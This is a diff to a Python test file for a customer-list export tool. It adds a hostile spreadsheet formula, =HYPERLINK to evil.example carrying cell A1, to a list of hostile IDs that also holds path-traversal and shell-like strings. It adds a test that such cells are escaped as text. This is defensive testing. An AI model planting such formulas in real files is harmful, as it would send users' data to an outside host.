@@ -65,7 +65,7 @@ def test_lists_are_written_within_capacity(home, first):
     assert manifest["rows"] == len(d) and manifest["model"] == "nba/1"
 
 
-HOSTILE_RM_IDS = ["../../../../escaped", "EU/RM01", "<b>x</b>", "..", ".", "", " ", "RM\n01", "a\\b", "CON",
+HOSTILE_RM_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "../../../../escaped", "EU/RM01", "<b>x</b>", "..", ".", "", " ", "RM\n01", "a\\b", "CON",
                   "经理" * 200, "-rf", "~root", "$HOME", "RM01", "rm01", "R\u00e9my", "Re\u0301my"]
 
 
@@ -89,6 +89,13 @@ def test_ids_from_the_data_never_choose_a_path(home, first, tmp_path):
         assert set(pd.read_csv(page.with_suffix(".csv"), encoding="utf-8-sig", keep_default_na=False).customer_id) \
             == set(d[(d.rm_id == rm_id) & ~d.control_group].customer_id)
     assert len(list(folder.iterdir())) == 2 * len(listed)
+    # Cells a spreadsheet would run as a formula are written as text.
+    evil = pages[HOSTILE_RM_IDS[0]].with_suffix(".csv")
+    d2 = d.copy()
+    d2.loc[d2.rm_id == HOSTILE_RM_IDS[0], "customer_id"] = "=1+1"
+    write(home, day, d2, {"model": "nba/1"})
+    rows = pd.read_csv(evil, encoding="utf-8-sig", keep_default_na=False, dtype=str)
+    assert (rows.customer_id == "'=1+1").all() and not rows.apply(lambda c: c.str.startswith("=")).any().any()
 
 
 def test_rerun_is_idempotent_and_switches_atomically(home, first):
@@ -170,8 +177,14 @@ def test_stale_data_warns_and_is_refused_past_the_limit_unless_forced(home, firs
     said = []
     res = run_daily(home, DAY + timedelta(days=10), log=said.append)
     assert any(m.startswith("warning: the store's data ends") for m in said)
-    assert json.loads((res.path / "manifest.json").read_text())["data_stale_days"] == 10
-    assert run_daily(home, late, force=True).decisions is not None
+    m = json.loads((res.path / "manifest.json").read_text())
+    # The data ends the day before DAY: DAY + 10 is 11 days after the last data.
+    assert m["data_age_days"] == 11 and m["data_warning"].startswith("the store's data ends") and not m["forced"]
+    forced = run_daily(home, late, force=True)
+    assert json.loads((forced.path / "manifest.json").read_text())["forced"]
+    said = []
+    run_daily(home, DAY + timedelta(days=3), log=said.append)  # 4 days after the last data: over warn_days 3
+    assert any(s_.startswith("warning: the store's data ends") for s_ in said)
 
 
 def test_outcomes_close_the_loop(home, first, tmp_path):
